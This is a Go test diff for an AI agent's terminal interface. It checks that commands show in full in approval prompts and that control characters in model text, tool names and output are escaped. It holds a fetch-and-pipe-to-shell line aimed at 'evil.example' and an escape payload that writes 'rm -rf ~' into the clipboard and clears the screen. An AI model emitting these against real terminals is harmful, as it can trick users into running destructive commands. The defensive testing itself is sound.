@@ -7,6 +7,7 @@ import (
 
 	tea "charm.land/bubbletea/v2"
 
+	"github.com/clawseed/clawseed/cmd/clawseed/internal/repl"
 	"github.com/clawseed/clawseed/runtime/agent"
 )
 
@@ -74,5 +75,44 @@ func TestResizeRewrapsAndLongCommand(t *testing.T) {
 	screen = h.waitFor("evil.example/x | sh")
 	if strings.Contains(screen, "…") {
 		t.Fatalf("the command is cut in the approval:\n%s", screen)
+	}
+}
+
+// What a model, a tool or a repository says never reaches the terminal as
+// escape sequences: reply text, tool names and output, skill descriptions
+// in the menu, the live tail — all are shown escaped.
+func TestControlCharactersEscaped(t *testing.T) {
+	var raw rawLog
+	evil := "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x9b31m"
+	h := newHarness(t, 80, 30, Options{Commands: func() []repl.MenuEntry {
+		return []repl.MenuEntry{{Name: "/evil", Help: "desc " + evil}}
+	}, Out: &raw})
+	got := h.read()
+	h.typeText("/ev")
+	h.waitFor("desc")
+	h.press('u', tea.ModCtrl)
+	h.typeText("go")
+	h.press(tea.KeyEnter, 0)
+	h.result(got)
+	ev := func(e agent.Event) { h.ui.Handle(e) }
+	ev(agent.Event{Type: agent.EventTurnStart})
+	ev(agent.Event{Type: agent.EventTextDelta, Text: "# Title " + evil + "\n\ntext " + evil + "\n\n"})
+	ev(agent.Event{Type: agent.EventToolCall, ID: "c1", Name: "mcp__x__t" + evil, Args: `{"a":"` + strings.ReplaceAll(evil, "\x1b", `\u001b`) + `"}`})
+	ev(agent.Event{Type: agent.EventToolOutput, ID: "c1", Text: "tail " + evil + "\n"})
+	h.waitFor("tail")
+	ev(agent.Event{Type: agent.EventToolResult, ID: "c1", Name: "mcp__x__t" + evil, Result: "result " + evil})
+	ev(agent.Event{Type: agent.EventTextDelta, Text: "pending " + evil})
+	h.waitFor("pending")
+	ev(agent.Event{Type: agent.EventTurnEnd, Status: agent.StatusOK})
+	h.read()
+	h.settle()
+	out := raw.String()
+	for _, bad := range []string{"\x1b]52", "\x07", "\x1b[2J", "\x9b"} {
+		if strings.Contains(out, bad) {
+			t.Errorf("the terminal got %q raw", bad)
+		}
+	}
+	if !strings.Contains(h.screen(), `\x1b]52`) {
+		t.Errorf("the escaped form is not shown:\n%s", h.screen())
 	}
 }
